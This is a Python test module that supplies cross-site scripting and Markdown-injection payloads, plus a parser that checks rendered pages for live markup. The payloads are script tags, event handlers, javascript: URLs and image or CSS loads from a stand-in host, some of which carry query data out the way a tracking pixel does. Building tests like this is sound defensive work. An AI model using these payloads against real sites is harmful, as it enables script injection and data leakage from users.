"""Hostile source text, and a check that rendered output holds none of it as live markup.

Every string tries to run a script (setting `window.__pwned`), load something from `remote-host.invalid`
(a name that never resolves, so a request to it is easy to spot and never leaves the machine), or
otherwise turn a quoted source into markup.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

REMOTE = "remote-host.invalid"
LONG = "W" * 5000  # one unbroken "word": must wrap, not widen the page

# Text placed in titles, sources, quotes, claims and labels.
HOSTILE = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "<img src=x onerror=window.__pwned=1>",
    f"<img src=http://{REMOTE}/img.png>",
    '<a href="javascript:window.__pwned=1">click</a>',
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    f"![x](http://{REMOTE}/pixel.png?q=secret)",
    f"![x](//{REMOTE}/pixel.png?q=relative)",
    f'![x](http://{REMOTE}/t.png "title")',
    f"![x][r]\n\n[r]: http://{REMOTE}/reference.png",
    f"quoted text\n\n![x](http://{REMOTE}/after-a-blank-line.png)",
    f"quoted text\n\n<img src=http://{REMOTE}/html-after-a-blank-line.png>",
    f"\\![x](http://{REMOTE}/pre-escaped.png)",
    f"<iframe src=http://{REMOTE}/frame></iframe>",
    "<svg onload=window.__pwned=1>",
    '<details open ontoggle="window.__pwned=1">x</details>',
    '<body onload="window.__pwned=1">',
    f"<style>body{{background:url(http://{REMOTE}/css.png)}}</style>",
    f"<link rel=stylesheet href=http://{REMOTE}/x.css>",
    f"<base href=http://{REMOTE}/>",
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    f"<object data=http://{REMOTE}/o.swf></object><embed src=http://{REMOTE}/e.swf>",
    f"<video poster=http://{REMOTE}/poster.png></video><audio src=http://{REMOTE}/a.mp3></audio>",
    '<form action="javascript:window.__pwned=1"><button>go</button></form>',
    f"<http://{REMOTE}/autolink> <javascript:window.__pwned=1>",
    f"bare http://{REMOTE}/bare?q=1 and www.{REMOTE}/www",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;img src=x onerror=window.__pwned=1&#62;",
    "<!-- a comment --> <![CDATA[x]]>",
    "# a heading\n> a quote\n- a list\n1. a numbered list\n---",
    "**bold** _em_ `code` ~~strike~~ | a | table |\n|---|---|",
    "$$\\href{javascript:window.__pwned=1}{x}$$ $x$",
    "\u202e<script>window.__pwned=1</script>\u200b",
    LONG,
    f"{LONG[:2000]}<img src=x onerror=window.__pwned=1>{LONG[:2000]}",
]

# Article URLs: only an http(s) address may become a link, and never one that breaks out of its markup.
HOSTILE_URLS = [
    "javascript:window.__pwned=1",
    " JaVaScRiPt:window.__pwned=1",
    "java\tscript:window.__pwned=1",
    "vbscript:msgbox(1)",
    "data:text/html,<script>window.__pwned=1</script>",
    f'http://{REMOTE}/a"><img src=x onerror=window.__pwned=1>',
    f"http://{REMOTE}/a> <img src=x onerror=window.__pwned=1>",
    f"http://{REMOTE}/a b",
    f"//{REMOTE}/protocol-relative",
    f"![x](http://{REMOTE}/u.png)",
]

# Live markup: elements that run code, load something or navigate, and where their addresses sit.
_LOADING = {
    "script", "img", "iframe", "frame", "frameset", "svg", "math", "object", "embed", "video", "audio", "source",
    "track", "picture", "style", "link", "base", "meta", "form", "input", "button", "textarea", "select",
    "template", "applet", "marquee", "xmp", "noscript", "body", "html", "head", "title", "image", "portal",
}  # fmt: skip
_URL_ATTRS = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href", "ping"}


class _Scan(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _LOADING:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name}= handler on <{tag}>")
            # a link may go to an http(s) address, or to a numbered source of the same page (`[n]` → `#source-n`)
            link = tag == "a" and name == "href" and re.match(r"https?://|#source-\d+$", value or "")
            if name in _URL_ATTRS and not link:
                self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def scan_html(html: str) -> tuple[list[str], str]:
    """(live markup found, the visible text with whitespace collapsed)."""
    scan = _Scan()
    scan.feed(html)
    scan.close()
    return scan.problems, " ".join("".join(scan.text).split())


def render_markdown(markdown: str) -> str:
    """Markdown as a permissive CommonMark renderer makes it: raw HTML passes through, as in a `.md` viewer."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(markdown)


_AUTOLINK = re.compile(r"<https?://[^\s<>]*>")


def markdown_problems(markdown: str) -> list[str]:
    """Live markup in Markdown: as rendered, plus image syntax and bare addresses a GFM renderer would link."""
    problems, _ = scan_html(render_markdown(markdown))
    if "![" in markdown:
        problems.append("![ image syntax")
    bare = _AUTOLINK.sub("", markdown)
    if re.search(r"(?<!\\)://|(?<![\w.\\])www\.", bare):
        problems.append("a bare address GFM would link")
    return problems


def shown(text: str) -> str:
    """How `text` reads once shown (line breaks become spaces, whitespace collapsed)."""
    return " ".join(text.split())
